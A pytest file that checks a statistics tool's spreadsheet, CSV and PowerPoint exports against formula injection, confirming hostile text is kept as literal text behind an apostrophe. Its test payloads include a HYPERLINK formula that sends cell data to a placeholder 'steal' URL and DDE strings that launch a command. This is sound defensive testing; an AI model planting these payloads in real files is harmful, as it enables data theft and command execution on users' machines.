"""Stored text that looks like a formula leaves every export as the text it is.

A quote, note or source title such as ``=HYPERLINK(…)`` came in through an upload; each
export is opened the way a spreadsheet program would (openpyxl, the csv module, the
workbook inside a PowerPoint chart) and must hold no formula, with the text unchanged
(in CSV behind the apostrophe that marks literal text).
"""

import csv
import io
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook
from pptx import Presentation

from cppcc.charts import ChartSpec
from cppcc.export import cells, deck, sheets
from cppcc.upload import template
from cppcc.web import ui
from tests.upload_corpus import cli_main, csv_bytes, json_line, row

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/steal?d="&A1,"点这里")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _no_formulas(data: bytes) -> dict[str, list]:
    """Every sheet's values; fails on any formula cell."""
    book = load_workbook(io.BytesIO(data))
    values = {}
    for sheet in book.worksheets:
        found = []
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                found.append(cell.value)
        values[sheet.title] = found
    return values


def _csv_cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


@pytest.fixture
def hostile_store(store, tmp_path, capsys):
    rows = [
        row(start=2000 + index, value=str(index + 1), source=f"报告{index}",
            quote=payload, note=payload)
        for index, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    rows.append(row(start=2010, value="7", source='=HYPERLINK("http://x")'))
    path = tmp_path / "hostile.csv"
    path.write_bytes(csv_bytes(rows))
    status, out, _ = cli_main(capsys, "import", path, "--json")
    assert status == 0, json_line(out)
    return store


def test_the_rule_marks_formula_text_and_keeps_numbers():
    for payload in PAYLOADS:
        assert cells.csv_cell(payload) == "'" + payload
        assert cells.unquote(cells.csv_cell(payload)) == payload
    for harmless in ("银川市政协2024年工作报告", "收到提案415件", "2022–2023", "≥60", "'引号'"):
        assert cells.csv_cell(harmless) == harmless
    assert cells.csv_cell(-5) == -5 and cells.csv_cell(415.0) == 415.0
    assert cells.csv_cell(" =1+1") == "' =1+1"
    assert cells.csv_cell("\t=1+1") == "'\t=1+1" and cells.csv_cell("\r=1") == "'\r=1"


def test_template_with_data_has_no_formula_and_the_text_unchanged(hostile_store, tmp_path, capsys):
    out = tmp_path / "现有数据.xlsx"
    assert cli_main(capsys, "template", "--out", out, "--with-data")[0] == 0
    values = _no_formulas(out.read_bytes())["数据"]
    for payload in PAYLOADS:
        assert values.count(payload) == 2, payload  # quote and note, as typed
    assert '=HYPERLINK("http://x")' in values
    # and the file goes back in as it came out: nothing changes
    _status, printed, _ = cli_main(capsys, "import", out, "--json", "--dry-run")
    report = json_line(printed)
    assert report["ok"] and report["changed"] == report["new"] == 0, report


def test_template_with_data_as_csv_round_trips(hostile_store, tmp_path, capsys):
    out = tmp_path / "现有数据.csv"
    assert cli_main(capsys, "template", "--out", out, "--with-data")[0] == 0
    found = _csv_cells(out.read_bytes().decode("utf-8-sig"))
    for payload in PAYLOADS:
        assert found.count("'" + payload) == 2 and payload not in found
    report = json_line(cli_main(capsys, "import", out, "--json", "--dry-run")[1])
    assert report["ok"] and report["changed"] == report["new"] == 0, report


def test_figures_csv_marks_formula_text(hostile_store, capsys):
    status, out, _ = cli_main(capsys, "figures", "--format", "csv")
    assert status == 0
    found = _csv_cells(out)
    for payload in PAYLOADS:
        assert "'" + payload in found and payload not in found
    assert not [cell for cell in found if cell and cell[0] in "=+-@\t\r"]
    # numbers stay numbers
    assert "415" in found or "1" in found


def _hostile_spec() -> ChartSpec:
    data = pd.DataFrame(
        {
            "label": ["=1+1", "银川", "-2+3"],
            "value": [3.0, 415.0, float("nan")],
            "qualifier": ["exact", "exact", None],
            "inferred": [False, False, False],
            "source": ['=HYPERLINK("http://x")', "+cmd|' /C calc'!A0", None],
        }
    )
    return ChartSpec(
        kind="bars",
        title="@标题",
        subtitle="单位：件",
        unit="件",
        data=data,
        sources=('=HYPERLINK("http://x")', "+cmd|' /C calc'!A0"),
        file_stem="测试",
    )


def test_chart_exports_have_no_formula():
    spec = _hostile_spec()
    values = _no_formulas(sheets.xlsx_bytes(spec))
    flat = [value for found in values.values() for value in found]
    assert {"=1+1", "-2+3", '=HYPERLINK("http://x")', "+cmd|' /C calc'!A0"} <= set(flat)
    assert 415 in flat  # a number cell, still a number
    found = _csv_cells(sheets.csv_bytes(spec).decode("utf-8-sig"))
    assert {"'=1+1", "'-2+3", '\'=HYPERLINK("http://x")'} <= set(found)
    assert "415.0" in found


def test_page_table_downloads_have_no_formula():
    table = pd.DataFrame({"来源": ["=1+1", "报告"], "数值": [1.0, -2.0]})
    assert _no_formulas(ui._xlsx(table))["Sheet1"] == ["来源", "数值", "=1+1", 1, "报告", -2]
    found = _csv_cells(cells.frame_csv_bytes(table).decode("utf-8-sig"))
    assert found == ["来源", "数值", "'=1+1", "1.0", "报告", "-2.0"]


def test_the_deck_chart_workbooks_have_no_formula():
    data = deck.deck([_hostile_spec()], title="=演示", day=date(2026, 1, 1))
    presentation = Presentation(io.BytesIO(data))
    charts = [
        shape.chart for slide in presentation.slides for shape in slide.shapes if shape.has_chart
    ]
    assert charts
    for chart in charts:
        values = _no_formulas(chart.part.chart_workbook.xlsx_part.blob)
        flat = [value for found in values.values() for value in found]
        assert "=1+1" in flat
        assert next(iter(chart.plots[0].categories)) == "=1+1"
    tables = [
        cell.text
        for slide in presentation.slides
        for shape in slide.shapes
        if shape.has_table
        for line in shape.table.rows
        for cell in line.cells
    ]
    assert "=1+1" in tables  # a PowerPoint table cell is text: shown as it is


def test_the_blank_template_has_only_its_own_list_rule():
    values = _no_formulas(template.xlsx([], []))
    assert values["数据"][:9] == ["委员会", "指标", "起始年份", "截止年份", "数值", "限定", "来源",
                                  "原文摘录", "备注"]  # fmt: skip
